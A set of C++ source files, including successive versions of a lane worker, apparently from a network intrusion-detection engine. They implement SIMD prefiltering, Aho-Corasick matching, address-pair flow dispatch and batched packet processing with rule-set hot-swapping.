  State step_dense(State s, std::uint8_t b) const {
    return dense_[std::size_t{s} * 256 + b];
  }

  State step_sparse(State s, std::uint8_t b) const;

  /// Derive accept_ from out_ (build() and deserialize() both call this).
  void rebuild_accept_bits();

  AcLayout layout_ = AcLayout::dense_dfa;
  std::size_t node_count_ = 0;
  std::vector<Bytes> patterns_;
  std::vector<std::vector<std::uint32_t>> out_;
  std::vector<std::uint64_t> accept_;  // bit s set <=> !out_[s].empty()

  // dense_dfa layout
  std::vector<State> dense_;

  // sparse_nfa layout
  struct SparseNode {
    std::uint32_t edges_begin = 0;  // into edge_bytes_/edge_next_
    std::uint16_t edge_count = 0;
    State fail = kRoot;
  };
  std::vector<SparseNode> sparse_;
  std::vector<std::uint8_t> edge_bytes_;
  std::vector<State> edge_next_;
};

}  // namespace sdt::match
