#include "match/prefilter.hpp"

#include <algorithm>

#if defined(__x86_64__) || defined(__i386__)
#include <immintrin.h>
#define SDT_PREFILTER_X86 1
#elif defined(__aarch64__)
#include <arm_neon.h>
#define SDT_PREFILTER_NEON 1
#endif

namespace sdt::match {

namespace {

// Shufti class test: pass(b) = lo_tbl[b & 15] & (1 << ((b >> 4) & 7)).
// Over-approximates membership (a byte aliases its hi-nibble^8 twin); the
// exact pair bitmap removes the aliases before a position becomes a
// candidate, so the over-approximation only costs probes, never verdicts.

#if defined(SDT_PREFILTER_X86)

__attribute__((target("ssse3"))) std::uint32_t candidates16_ssse3(
    const std::uint8_t* p, const std::uint8_t* shufti) {
  const __m128i lo_first =
      _mm_loadu_si128(reinterpret_cast<const __m128i*>(shufti));
  const __m128i lo_second =
      _mm_loadu_si128(reinterpret_cast<const __m128i*>(shufti + 16));
  const __m128i bitsel = _mm_setr_epi8(1, 2, 4, 8, 16, 32, 64, -128, 1, 2, 4,
                                       8, 16, 32, 64, -128);
  const __m128i low4 = _mm_set1_epi8(0x0f);
  const __m128i v1 = _mm_loadu_si128(reinterpret_cast<const __m128i*>(p));
  const __m128i v2 = _mm_loadu_si128(reinterpret_cast<const __m128i*>(p + 1));
  const __m128i c1 = _mm_and_si128(
      _mm_shuffle_epi8(lo_first, _mm_and_si128(v1, low4)),
      _mm_shuffle_epi8(bitsel,
                       _mm_and_si128(_mm_srli_epi16(v1, 4), low4)));
  const __m128i c2 = _mm_and_si128(
      _mm_shuffle_epi8(lo_second, _mm_and_si128(v2, low4)),
      _mm_shuffle_epi8(bitsel,
                       _mm_and_si128(_mm_srli_epi16(v2, 4), low4)));
  // A position passes when BOTH classes matched. The class masks carry
  // bucket bits that differ per byte, so compare each against zero first —
  // c1 & c2 would wrongly demand the same bucket bit.
  const __m128i zero = _mm_setzero_si128();
  const int zeros = _mm_movemask_epi8(
      _mm_or_si128(_mm_cmpeq_epi8(c1, zero), _mm_cmpeq_epi8(c2, zero)));
  return static_cast<std::uint32_t>(~zeros) & 0xffffu;
}

__attribute__((target("avx2"))) std::uint32_t candidates32_avx2(
    const std::uint8_t* p, const std::uint8_t* shufti) {
  const __m256i lo_first = _mm256_broadcastsi128_si256(
      _mm_loadu_si128(reinterpret_cast<const __m128i*>(shufti)));
  const __m256i lo_second = _mm256_broadcastsi128_si256(
      _mm_loadu_si128(reinterpret_cast<const __m128i*>(shufti + 16)));
  const __m256i bitsel = _mm256_broadcastsi128_si256(_mm_setr_epi8(
      1, 2, 4, 8, 16, 32, 64, -128, 1, 2, 4, 8, 16, 32, 64, -128));
  const __m256i low4 = _mm256_set1_epi8(0x0f);
  const __m256i v1 = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(p));
  const __m256i v2 =
      _mm256_loadu_si256(reinterpret_cast<const __m256i*>(p + 1));
  const __m256i c1 = _mm256_and_si256(
      _mm256_shuffle_epi8(lo_first, _mm256_and_si256(v1, low4)),
      _mm256_shuffle_epi8(bitsel,
                          _mm256_and_si256(_mm256_srli_epi16(v1, 4), low4)));
  const __m256i c2 = _mm256_and_si256(
      _mm256_shuffle_epi8(lo_second, _mm256_and_si256(v2, low4)),
      _mm256_shuffle_epi8(bitsel,
                          _mm256_and_si256(_mm256_srli_epi16(v2, 4), low4)));
  // See the ssse3 kernel: compare each class mask against zero before
  // combining — their bucket bits need not coincide.
  const __m256i zero = _mm256_setzero_si256();
  const int zeros = _mm256_movemask_epi8(_mm256_or_si256(
      _mm256_cmpeq_epi8(c1, zero), _mm256_cmpeq_epi8(c2, zero)));
  return ~static_cast<std::uint32_t>(zeros);
}

#elif defined(SDT_PREFILTER_NEON)

// Returns a 64-bit mask with nibble t = 0xf iff position t is a candidate
// (the vshrn movemask idiom: 4 bits per byte lane).
std::uint64_t candidates16_neon(const std::uint8_t* p,
                                const std::uint8_t* shufti) {
  const uint8x16_t lo_first = vld1q_u8(shufti);
  const uint8x16_t lo_second = vld1q_u8(shufti + 16);
  const std::uint8_t bitsel_bytes[16] = {1, 2, 4, 8, 16, 32, 64, 128,
                                         1, 2, 4, 8, 16, 32, 64, 128};
  const uint8x16_t bitsel = vld1q_u8(bitsel_bytes);
  const uint8x16_t low4 = vdupq_n_u8(0x0f);
  const uint8x16_t v1 = vld1q_u8(p);
  const uint8x16_t v2 = vld1q_u8(p + 1);
  const uint8x16_t c1 =
      vandq_u8(vqtbl1q_u8(lo_first, vandq_u8(v1, low4)),
               vqtbl1q_u8(bitsel, vshrq_n_u8(v1, 4)));
  const uint8x16_t c2 =
      vandq_u8(vqtbl1q_u8(lo_second, vandq_u8(v2, low4)),
               vqtbl1q_u8(bitsel, vshrq_n_u8(v2, 4)));
  // vtst gives 0xff where the class mask is nonzero; AND of the two
  // full-byte masks is the "both classes matched" test (the raw class
  // masks must not be ANDed — their bucket bits need not coincide).
  const uint8x16_t nz = vandq_u8(vtstq_u8(c1, c1), vtstq_u8(c2, c2));
  const uint8x8_t narrowed = vshrn_n_u16(vreinterpretq_u16_u8(nz), 4);
  return vget_lane_u64(vreinterpret_u64_u8(narrowed), 0);
}

#endif

}  // namespace

Prefilter::Prefilter(const AhoCorasick& ac) {
  const std::size_t count = ac.pattern_count();
  if (count == 0) return;
  pair_.assign(1024, 0);
  bool all_long_enough = true;
  for (std::uint32_t id = 0; id < count; ++id) {
    const ByteView p = ac.pattern(id);
    max_len_ = std::max(max_len_, p.size());
    if (p.size() < 2) {
      all_long_enough = false;
      continue;
    }
    const std::uint8_t a = p[0];
    const std::uint8_t b = p[1];
    first_[a >> 6] |= std::uint64_t{1} << (a & 63);
    second_[b >> 6] |= std::uint64_t{1} << (b & 63);
    const std::uint32_t pr = (std::uint32_t{a} << 8) | b;
    pair_[pr >> 6] |= std::uint64_t{1} << (pr & 63);
    shufti_[a & 15] |= static_cast<std::uint8_t>(1u << ((a >> 4) & 7));
    shufti_[16 + (b & 15)] |= static_cast<std::uint8_t>(1u << ((b >> 4) & 7));
  }
  usable_ = all_long_enough;
  if (!usable_) {
    pair_.clear();
    return;
  }
#if defined(SDT_PREFILTER_X86)
  if (__builtin_cpu_supports("avx2")) {
    kernel_ = Kernel::avx2;
  } else if (__builtin_cpu_supports("ssse3")) {
    kernel_ = Kernel::ssse3;
  }
#elif defined(SDT_PREFILTER_NEON)
  kernel_ = Kernel::neon;
#endif
}

const char* Prefilter::kernel_name() const {
  switch (kernel_) {
    case Kernel::avx2:
      return "avx2";
    case Kernel::ssse3:
      return "ssse3";
    case Kernel::neon:
      return "neon";
    case Kernel::scalar:
      break;
  }
  return "scalar";
}

std::size_t Prefilter::windows(ByteView data,
                               std::vector<PrefilterWindow>& out) const {
  const std::size_t n = data.size();
  if (n < 2) return 0;
  const std::uint8_t* d = data.data();
  std::size_t candidates = 0;
  const auto add = [&](std::size_t i) {
    if (!pair_bit(d[i], d[i + 1])) return;
    ++candidates;
    const auto b = static_cast<std::uint32_t>(i);
    const auto e = static_cast<std::uint32_t>(std::min(i + max_len_, n));
    if (!out.empty() && b <= out.back().end) {
      out.back().end = std::max(out.back().end, e);
    } else {
      out.push_back(PrefilterWindow{b, e});
    }
  };
  std::size_t i = 0;
#if defined(SDT_PREFILTER_X86)
  if (kernel_ == Kernel::avx2) {
    for (; i + 33 <= n; i += 32) {
      std::uint32_t m = candidates32_avx2(d + i, shufti_);
      while (m != 0) {
        const unsigned t = static_cast<unsigned>(__builtin_ctz(m));
        m &= m - 1;
        add(i + t);
      }
    }
  }
  if (kernel_ != Kernel::scalar) {  // ssse3 body; also drains the avx2 tail
    for (; i + 17 <= n; i += 16) {
      std::uint32_t m = candidates16_ssse3(d + i, shufti_);
      while (m != 0) {
        const unsigned t = static_cast<unsigned>(__builtin_ctz(m));
        m &= m - 1;
        add(i + t);
      }
    }
  }
#elif defined(SDT_PREFILTER_NEON)
  if (kernel_ == Kernel::neon) {
    for (; i + 17 <= n; i += 16) {
      std::uint64_t m = candidates16_neon(d + i, shufti_);
      while (m != 0) {
        const unsigned t =
            static_cast<unsigned>(__builtin_ctzll(m)) >> 2;
        m &= ~(std::uint64_t{0xf} << (t * 4));
        add(i + t);
      }
    }
  }
#endif
  for (; i + 1 < n; ++i) {
    if (first_bit(d[i]) && second_bit(d[i + 1])) add(i);
  }
  return candidates;
}

bool Prefilter::may_contain(ByteView data) const {
  const std::size_t n = data.size();
  if (n < 2) return false;
  const std::uint8_t* d = data.data();
  for (std::size_t i = 0; i + 1 < n; ++i) {
    if (first_bit(d[i]) && second_bit(d[i + 1]) && pair_bit(d[i], d[i + 1])) {
      return true;
    }
  }
  return false;
}

std::size_t Prefilter::memory_bytes() const {
  return sizeof(*this) + pair_.capacity() * sizeof(std::uint64_t);
}

}  // namespace sdt::match
