// FlowDispatcher: partitions packets across lanes by the address-pair hash.
//
// The hash is over (src ip, dst ip) only — no ports — and is commutative in
// the two addresses, so both directions of a conversation AND every IP
// fragment of it (fragments carry no port fields) land in the same lane.
// This is the fragment-affinity invariant the whole runtime rests on: a
// lane's SplitDetectEngine sees every byte of every flow it owns, which is
// why multi-lane verdicts equal single-engine verdicts.
//
// `address_pair_lane` is the single definition of that mapping; the
// sequential simulator (`sim::shard_by_address_pair`) and the concurrent
// runtime both call it, so they cannot drift apart.
#pragma once

#include <cstddef>

#include "net/packet.hpp"

namespace sdt::runtime {

/// Lane index for a parsed packet. Packets without an IPv4 header (never
/// inspected by the engines) go to lane 0. `lanes` must be >= 1.
std::size_t address_pair_lane(const net::PacketView& pv, std::size_t lanes);

class FlowDispatcher {
 public:
  FlowDispatcher(std::size_t lanes, net::LinkType lt);

  std::size_t lanes() const { return lanes_; }
  net::LinkType link_type() const { return lt_; }

  std::size_t lane_for(const net::PacketView& pv) const {
    return address_pair_lane(pv, lanes_);
  }
  /// Parses the frame's headers (payload untouched) and hashes.
  std::size_t lane_for(const net::Packet& pkt) const;

 private:
  std::size_t lanes_;
  net::LinkType lt_;
};

}  // namespace sdt::runtime
