// FlowDispatcher: partitions packets across lanes by the address-pair hash,
// parsing each frame exactly once.
//
// The hash is over (src ip, dst ip) only — no ports — and is commutative in
// the two addresses, so both directions of a conversation AND every IP
// fragment of it (fragments carry no port fields) land in the same lane.
// This is the fragment-affinity invariant the whole runtime rests on: a
// lane's SplitDetectEngine sees every byte of every flow it owns, which is
// why multi-lane verdicts equal single-engine verdicts.
//
// Non-IPv4 frames carry no address pair; they are spread by a fallback hash
// of the frame length and leading bytes (stable per frame content) instead
// of piling onto lane 0, and counted per lane as `non_ip`.
//
// `address_pair_lane` is the single definition of that mapping; the
// sequential simulator (`sim::shard_by_address_pair`) and the concurrent
// runtime both call it, so they cannot drift apart.
//
// route() is the parse-once edge: one validating PacketIndex::index pass
// classifies the frame (deliver / reject-malformed / non-IP) and picks the
// lane; the index ships through the ring so lane workers never re-parse.
#pragma once

#include <cstddef>

#include "net/packet.hpp"

namespace sdt::runtime {

/// Lane index for a parsed packet. IPv4 packets hash by address pair;
/// non-IPv4 frames hash by frame length + leading bytes. `lanes` must
/// be >= 1.
std::size_t address_pair_lane(const net::PacketView& pv, std::size_t lanes);

/// Lane index from a raw frame WITHOUT the validating parse — the RSS-style
/// header peek sharded ingest uses to pick the owning dispatcher before the
/// real parse-once edge runs on that dispatcher's thread. Guarantee: for
/// every frame the dispatcher delivers (not reject-malformed), this equals
/// address_pair_lane over the parsed view — the affinity invariant holds
/// shard-side too. Malformed frames may peek to any lane; whichever shard
/// receives them rejects them, so no flow is ever split by the difference.
std::size_t peek_lane(ByteView frame, net::LinkType lt, std::size_t lanes);

/// The dispatcher's verdict on one frame: where it goes and how it was
/// classified at the parse-once edge.
struct RouteDecision {
  net::PacketIndex idx;
  std::size_t lane = 0;
  /// Structurally broken frame (truncated / impossible header): counted at
  /// the dispatcher and never enqueued — the engines cannot inspect it.
  bool reject = false;
  /// Valid frame without an IPv4 layer: delivered (fallback-hashed) and
  /// counted per lane as non_ip.
  bool non_ip = false;
};

class FlowDispatcher {
 public:
  FlowDispatcher(std::size_t lanes, net::LinkType lt);

  std::size_t lanes() const { return lanes_; }
  net::LinkType link_type() const { return lt_; }

  std::size_t lane_for(const net::PacketView& pv) const {
    return address_pair_lane(pv, lanes_);
  }
  /// Parses the frame's headers (payload untouched) and hashes. Convenience
  /// for callers outside the pipeline; the runtime itself uses route().
  std::size_t lane_for(const net::Packet& pkt) const;

  /// One validating parse → classification + lane. The returned index is
  /// what travels through the ring (see ParsedPacket).
  RouteDecision route(const net::Packet& pkt) const;

 private:
  std::size_t lanes_;
  net::LinkType lt_;
};

}  // namespace sdt::runtime
