#include "runtime/lane_worker.hpp"

#include <chrono>

namespace sdt::runtime {

LaneWorker::LaneWorker(const core::SignatureSet& sigs,
                       const core::SplitDetectConfig& engine_cfg,
                       std::size_t ring_capacity, std::size_t expire_every)
    : engine_(sigs, engine_cfg),
      ring_(ring_capacity),
      expire_every_(expire_every == 0 ? 1 : expire_every) {
  adopted_version_ = engine_.ruleset_version();
  counters_.adopted_version.store(adopted_version_, std::memory_order_relaxed);
}

LaneWorker::LaneWorker(core::RuleSetHandle rules,
                       const core::SplitDetectConfig& engine_cfg,
                       std::size_t ring_capacity, std::size_t expire_every)
    : engine_(std::move(rules), engine_cfg),
      ring_(ring_capacity),
      expire_every_(expire_every == 0 ? 1 : expire_every) {
  adopted_version_ = engine_.ruleset_version();
  counters_.adopted_version.store(adopted_version_, std::memory_order_relaxed);
}

void LaneWorker::attach_registry(control::RuleSetRegistry* registry,
                                 std::size_t slot) {
  registry_ = registry;
  registry_slot_ = slot;
}

void LaneWorker::maybe_adopt() {
  // Hot path: ONE acquire load, then a thread-private compare. Everything
  // below the early return happens once per published version per lane.
  if (registry_ == nullptr ||
      registry_->current_version() == adopted_version_) {
    return;
  }
  core::RuleSetHandle h = registry_->current();
  if (!h || h->version() == adopted_version_) return;
  const std::uint64_t v = h->version();
  engine_.swap_ruleset(std::move(h));  // packet boundary: flows stay pinned
  adopted_version_ = v;
  counters_.adopted_version.store(v, std::memory_order_relaxed);
  counters_.adoptions.fetch_add(1, std::memory_order_relaxed);
  registry_->note_adoption(registry_slot_, v);
}

LaneWorker::~LaneWorker() {
  request_stop();
  join();
}

void LaneWorker::start() {
  if (thread_.joinable()) return;
  stop_.store(false, std::memory_order_release);
  thread_ = std::thread([this] { run(); });
}

void LaneWorker::request_stop() {
  stop_.store(true, std::memory_order_release);
}

void LaneWorker::join() {
  if (thread_.joinable()) thread_.join();
}

void LaneWorker::run() {
  using clock = std::chrono::steady_clock;
  ParsedPacket pp;
  std::size_t since_expire = 0;

  const auto process = [&](ParsedPacket& p) {
    const auto t0 = clock::now();
    const std::size_t before = alerts_.size();
    // The one parse already happened at the dispatcher; rebuilding the view
    // from the shipped index is offset arithmetic only.
    const net::PacketView pv = p.view();
    const core::Action act = engine_.process(pv, p.pkt.ts_usec, alerts_);
    if (act != core::Action::forward) {
      counters_.diverted.fetch_add(1, std::memory_order_relaxed);
    }
    if (alerts_.size() != before) {
      counters_.alerts.fetch_add(alerts_.size() - before,
                                 std::memory_order_relaxed);
    }
    if (++since_expire >= expire_every_) {
      engine_.expire(p.pkt.ts_usec);
      since_expire = 0;
    }
    const auto t1 = clock::now();
    const auto ns = static_cast<std::uint64_t>(
        std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0)
            .count());
    counters_.busy_ns.fetch_add(ns, std::memory_order_relaxed);
    latency_ns_.record(ns);
    frame_bytes_.record(p.pkt.frame.size());
    counters_.bytes.fetch_add(p.pkt.frame.size(), std::memory_order_relaxed);
    // `processed` is the drain barrier: release so a thread that observes
    // the count also observes the work (alerts vector growth included).
    counters_.processed.fetch_add(1, std::memory_order_release);
  };

  for (;;) {
    maybe_adopt();
    if (ring_.try_pop(pp)) {
      process(pp);
      continue;
    }
    if (stop_.load(std::memory_order_acquire)) {
      // The dispatcher stops feeding before it raises `stop_`, so one more
      // acquire-pop is enough to see any packet that raced with the flag.
      if (ring_.try_pop(pp)) {
        process(pp);
        continue;
      }
      break;
    }
    std::this_thread::yield();
  }
}

}  // namespace sdt::runtime
