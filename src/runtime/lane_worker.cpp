#include "runtime/lane_worker.hpp"

#include <chrono>

namespace sdt::runtime {

LaneWorker::LaneWorker(const core::SignatureSet& sigs,
                       const core::SplitDetectConfig& engine_cfg,
                       std::size_t ring_capacity, std::size_t expire_every)
    : engine_(sigs, engine_cfg),
      ring_(ring_capacity),
      expire_every_(expire_every == 0 ? 1 : expire_every) {
  adopted_version_ = engine_.ruleset_version();
  counters_.adopted_version.store(adopted_version_, std::memory_order_relaxed);
}

LaneWorker::LaneWorker(core::RuleSetHandle rules,
                       const core::SplitDetectConfig& engine_cfg,
                       std::size_t ring_capacity, std::size_t expire_every)
    : engine_(std::move(rules), engine_cfg),
      ring_(ring_capacity),
      expire_every_(expire_every == 0 ? 1 : expire_every) {
  adopted_version_ = engine_.ruleset_version();
  counters_.adopted_version.store(adopted_version_, std::memory_order_relaxed);
}

void LaneWorker::attach_registry(control::RuleSetRegistry* registry,
                                 std::size_t slot) {
  registry_ = registry;
  registry_slot_ = slot;
}

void LaneWorker::maybe_adopt() {
  // Hot path: ONE acquire load, then a thread-private compare. Everything
  // below the early return happens once per published version per lane.
  if (registry_ == nullptr ||
      registry_->current_version() == adopted_version_) {
    return;
  }
  core::RuleSetHandle h = registry_->current();
  if (!h || h->version() == adopted_version_) return;
  const std::uint64_t v = h->version();
  engine_.swap_ruleset(std::move(h));  // packet boundary: flows stay pinned
  adopted_version_ = v;
  counters_.adopted_version.store(v, std::memory_order_relaxed);
  counters_.adoptions.fetch_add(1, std::memory_order_relaxed);
  registry_->note_adoption(registry_slot_, v);
}

LaneWorker::~LaneWorker() {
  request_stop();
  join();
}

void LaneWorker::start() {
  if (thread_.joinable()) return;
  stop_.store(false, std::memory_order_release);
  thread_ = std::thread([this] { run(); });
}

void LaneWorker::request_stop() {
  stop_.store(true, std::memory_order_release);
}

void LaneWorker::join() {
  if (thread_.joinable()) thread_.join();
}

void LaneWorker::run() {
  using clock = std::chrono::steady_clock;
  // Drain the ring in batches so the engine's batched fast path can hoist
  // flow prefetch + checksums and walk the flat DFA over the whole batch
  // in lockstep. kBatch matches FlatDfa::kBatchWidth — more lanes than the
  // scan kernel keeps in flight would just sit in the gather buffer.
  constexpr std::size_t kBatch = 8;
  ParsedPacket pps[kBatch];
  net::PacketView views[kBatch];
  std::uint64_t ts[kBatch];
  std::size_t since_expire = 0;

  const auto process_batch = [&](std::size_t n) {
    const auto t0 = clock::now();
    const std::size_t before = alerts_.size();
    for (std::size_t i = 0; i < n; ++i) {
      // The one parse already happened at the dispatcher; rebuilding the
      // view from the shipped index is offset arithmetic only.
      views[i] = pps[i].view();
      ts[i] = pps[i].pkt.ts_usec;
    }
    const std::size_t not_forwarded =
        engine_.process_batch(views, ts, n, alerts_);
    if (not_forwarded != 0) {
      counters_.diverted.fetch_add(not_forwarded, std::memory_order_relaxed);
    }
    if (alerts_.size() != before) {
      counters_.alerts.fetch_add(alerts_.size() - before,
                                 std::memory_order_relaxed);
    }
    since_expire += n;
    if (since_expire >= expire_every_) {
      engine_.expire(ts[n - 1]);
      since_expire = 0;
    }
    const auto t1 = clock::now();
    const auto ns = static_cast<std::uint64_t>(
        std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0)
            .count());
    counters_.busy_ns.fetch_add(ns, std::memory_order_relaxed);
    // Amortize the batch cost over its packets; the first `ns % n` samples
    // carry the remainder so the histogram sum still equals busy_ns exactly.
    const std::uint64_t per_packet_ns = ns / n;
    const std::uint64_t remainder = ns % n;
    std::uint64_t bytes = 0;
    for (std::size_t i = 0; i < n; ++i) {
      latency_ns_.record(per_packet_ns + (i < remainder ? 1 : 0));
      frame_bytes_.record(pps[i].pkt.frame.size());
      bytes += pps[i].pkt.frame.size();
    }
    counters_.bytes.fetch_add(bytes, std::memory_order_relaxed);
    // `processed` is the drain barrier: release so a thread that observes
    // the count also observes the work (alerts vector growth included).
    counters_.processed.fetch_add(n, std::memory_order_release);
  };

  for (;;) {
    maybe_adopt();
    std::size_t n = 0;
    while (n < kBatch && ring_.try_pop(pps[n])) ++n;
    if (n != 0) {
      process_batch(n);
      continue;
    }
    if (stop_.load(std::memory_order_acquire)) {
      // The dispatcher stops feeding before it raises `stop_`, so one more
      // acquire-drain is enough to see any packet that raced with the flag.
      while (n < kBatch && ring_.try_pop(pps[n])) ++n;
      if (n != 0) {
        process_batch(n);
        continue;
      }
      break;
    }
    std::this_thread::yield();
  }
}

}  // namespace sdt::runtime
