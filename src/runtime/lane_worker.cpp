#include "runtime/lane_worker.hpp"

#include "util/stats.hpp"

namespace sdt::runtime {

LaneWorker::LaneWorker(const core::SignatureSet& sigs,
                       const core::SplitDetectConfig& engine_cfg,
                       std::size_t ring_capacity, std::size_t expire_every,
                       const PacketArena::Config& arena_cfg)
    : engine_(sigs, engine_cfg),
      ring_(ring_capacity),
      arena_(arena_cfg),
      expire_every_(expire_every == 0 ? 1 : expire_every) {
  adopted_version_ = engine_.ruleset_version();
  counters_.adopted_version.store(adopted_version_, std::memory_order_relaxed);
}

LaneWorker::LaneWorker(core::RuleSetHandle rules,
                       const core::SplitDetectConfig& engine_cfg,
                       std::size_t ring_capacity, std::size_t expire_every,
                       const PacketArena::Config& arena_cfg)
    : engine_(std::move(rules), engine_cfg),
      ring_(ring_capacity),
      arena_(arena_cfg),
      expire_every_(expire_every == 0 ? 1 : expire_every) {
  adopted_version_ = engine_.ruleset_version();
  counters_.adopted_version.store(adopted_version_, std::memory_order_relaxed);
}

void LaneWorker::attach_registry(control::RuleSetRegistry* registry,
                                 std::size_t slot) {
  registry_ = registry;
  registry_slot_ = slot;
}

void LaneWorker::maybe_adopt() {
  // Hot path: ONE acquire load, then a thread-private compare. Everything
  // below the early return happens once per published version per lane.
  if (registry_ == nullptr ||
      registry_->current_version() == adopted_version_) {
    return;
  }
  core::RuleSetHandle h = registry_->current();
  if (!h || h->version() == adopted_version_) return;
  const std::uint64_t v = h->version();
  engine_.swap_ruleset(std::move(h));  // packet boundary: flows stay pinned
  adopted_version_ = v;
  counters_.adopted_version.store(v, std::memory_order_relaxed);
  counters_.adoptions.fetch_add(1, std::memory_order_relaxed);
  registry_->note_adoption(registry_slot_, v);
}

LaneWorker::~LaneWorker() {
  request_stop();
  join();
}

void LaneWorker::start() {
  if (thread_.joinable()) return;
  stop_.store(false, std::memory_order_release);
  thread_ = std::thread([this] { run(); });
}

void LaneWorker::request_stop() {
  stop_.store(true, std::memory_order_release);
}

void LaneWorker::join() {
  if (thread_.joinable()) thread_.join();
}

void LaneWorker::run() {
  // Drain the ring in batches so the engine's batched fast path can hoist
  // flow prefetch + checksums and walk the flat DFA over the whole batch in
  // lockstep (it splits into kBatchWidth-lane DFA groups internally), and
  // so the ring acquire/release, the clock reads, and the arena recycle are
  // each paid once per 32 packets instead of once per 8.
  constexpr std::size_t kBatch = 32;
  ParsedPacket pps[kBatch];
  net::PacketView views[kBatch];
  std::uint64_t ts[kBatch];
  std::uint32_t done_slots[kBatch];
  core::Action actions[kBatch];
  std::size_t since_expire = 0;

  const auto process_batch = [&](std::size_t n) {
    // Thread CPU clock, not wall: `busy_ns` is the lane's actual work, so
    // time spent preempted mid-batch (guaranteed when lanes outnumber
    // cores) must not be charged to it — aggregate-throughput numbers are
    // bytes over the busiest lane's busy_ns.
    const std::uint64_t t0 = thread_cpu_now_ns();
    const std::size_t before = alerts_.size();
    for (std::size_t i = 0; i < n; ++i) {
      // The one parse already happened at the dispatcher; rebuilding the
      // view from the shipped index is offset arithmetic only.
      views[i] = pps[i].view();
      ts[i] = pps[i].ts_usec;
    }
    const std::size_t not_forwarded = engine_.process_batch(
        views, ts, n, alerts_, feedback_ != nullptr ? actions : nullptr);
    if (not_forwarded != 0) {
      counters_.diverted.fetch_add(not_forwarded, std::memory_order_relaxed);
    }
    if (alerts_.size() != before) {
      counters_.alerts.fetch_add(alerts_.size() - before,
                                 std::memory_order_relaxed);
    }
    since_expire += n;
    if (since_expire >= expire_every_) {
      engine_.expire(ts[n - 1]);
      since_expire = 0;
    }
    const std::uint64_t ns = thread_cpu_now_ns() - t0;
    counters_.busy_ns.fetch_add(ns, std::memory_order_relaxed);
    // Amortize the batch cost over its packets; the first `ns % n` samples
    // carry the remainder so the histogram sum still equals busy_ns exactly.
    const std::uint64_t per_packet_ns = ns / n;
    const std::uint64_t remainder = ns % n;
    std::uint64_t bytes = 0;
    for (std::size_t i = 0; i < n; ++i) {
      latency_ns_.record(per_packet_ns + (i < remainder ? 1 : 0));
      frame_bytes_.record(pps[i].len);
      bytes += pps[i].len;
    }
    counters_.bytes.fetch_add(bytes, std::memory_order_relaxed);
    // Everything that reads the slabs is done — hand the batch's arena
    // slots back so the dispatcher can reuse them. Must precede nothing but
    // bookkeeping: after recycle() the borrower may overwrite the slabs.
    std::size_t n_slots = 0;
    for (std::size_t i = 0; i < n; ++i) {
      if (pps[i].in_arena()) done_slots[n_slots++] = pps[i].slot;
    }
    arena_.recycle(done_slots, n_slots);
    // Report verdicts for ticketed packets BEFORE the `processed` release:
    // a drain() that observes the count then also finds every verdict
    // already delivered (the wire router relies on exactly this to close
    // its conservation ledger at finish()).
    if (feedback_ != nullptr) {
      for (std::size_t i = 0; i < n; ++i) {
        if (pps[i].ticket != net::Packet::kNoTicket) {
          feedback_->on_verdict(lane_index_, pps[i].ticket, actions[i]);
        }
      }
    }
    // `processed` is the drain barrier: release so a thread that observes
    // the count also observes the work (alerts vector growth included).
    counters_.processed.fetch_add(n, std::memory_order_release);
  };

  for (;;) {
    maybe_adopt();
    // One acquire/release pair covers the whole batch (vs per-packet
    // try_pop): the ring handoff cost is amortized 32×.
    std::size_t n = ring_.try_pop_batch(pps, kBatch);
    if (n != 0) {
      process_batch(n);
      continue;
    }
    if (stop_.load(std::memory_order_acquire)) {
      // The dispatcher stops feeding before it raises `stop_`, so one more
      // acquire-drain is enough to see any packet that raced with the flag.
      n = ring_.try_pop_batch(pps, kBatch);
      if (n != 0) {
        process_batch(n);
        continue;
      }
      break;
    }
    std::this_thread::yield();
  }
}

}  // namespace sdt::runtime
