#include "runtime/ingest.hpp"

#include <chrono>
#include <cstring>
#include <utility>

#include "util/error.hpp"
#include "util/stats.hpp"

namespace sdt::runtime {

DispatchCore::DispatchCore(const FlowDispatcher& disp, OverloadPolicy overload,
                           std::size_t batch, std::vector<OwnedLane> owned)
    : disp_(disp), overload_(overload), batch_(batch == 0 ? 1 : batch) {
  if (owned.empty()) throw InvalidArgument("DispatchCore: no owned lanes");
  owned_.resize(owned.size());
  owned_index_.assign(disp.lanes(), 0);
  for (std::size_t i = 0; i < owned.size(); ++i) {
    owned_[i].lane = owned[i].lane;
    owned_[i].pending.reserve(batch_);
    owned_index_[owned[i].index] = static_cast<std::uint32_t>(i);
  }
}

std::uint32_t DispatchCore::borrow(LaneSlot& ls) {
  PacketArena& arena = ls.lane->arena();
  for (;;) {
    if (!ls.spare.empty()) {
      const std::uint32_t slot = ls.spare.back();
      ls.spare.pop_back();
      return slot;
    }
    const std::uint32_t slot = arena.try_borrow();
    if (slot != PacketArena::kNoSlot) return slot;
    if (!ls.pending.empty()) {
      // Our own staged batch may be holding most of the pool — push it to
      // the lane so recycling can start (and, under drop policy, shed
      // overflow straight into `spare`), then retry.
      flush(ls);
      continue;
    }
    if (overload_ == OverloadPolicy::drop) return PacketArena::kNoSlot;
    // Blocking policy: every slot is in the ring or inside the engine; the
    // lane is guaranteed to recycle, so waiting is deadlock-free.
    std::this_thread::yield();
  }
}

void DispatchCore::ingest(net::Packet&& pkt) { ingest_frame(&pkt, pkt); }

void DispatchCore::ingest_borrowed(const net::Packet& pkt) {
  ingest_frame(nullptr, pkt);
}

void DispatchCore::ingest_frame(net::Packet* owner, const net::Packet& pkt) {
  const RouteDecision d = disp_.route(pkt);
  if (d.reject) {
    counters_.rejected.fetch_add(1, std::memory_order_relaxed);
    const auto reason = static_cast<std::size_t>(d.idx.status);
    if (reason < DispatchCounters::kParseStatuses) {
      counters_.rejected_by[reason].fetch_add(1, std::memory_order_relaxed);
    }
    // Edge verdict: the frame never reaches an engine, so the wire side
    // learns its fate (drop-as-malformed) right here.
    if (feedback_ != nullptr && pkt.ticket != net::Packet::kNoTicket) {
      feedback_->on_reject(pkt.ticket);
    }
    counters_.consumed.fetch_add(1, std::memory_order_release);
    return;
  }
  if (d.idx.has_ipv6) {
    counters_.delivered_ipv6.fetch_add(1, std::memory_order_relaxed);
  }
  if (d.idx.vlan_tags != 0) {
    counters_.delivered_vlan.fetch_add(1, std::memory_order_relaxed);
  }
  if (d.idx.encap != net::Encap::none) {
    counters_.delivered_tunneled.fetch_add(1, std::memory_order_relaxed);
  }
  LaneSlot& ls = owned_[owned_index_[d.lane]];
  PacketArena& arena = ls.lane->arena();
  ParsedPacket pp;
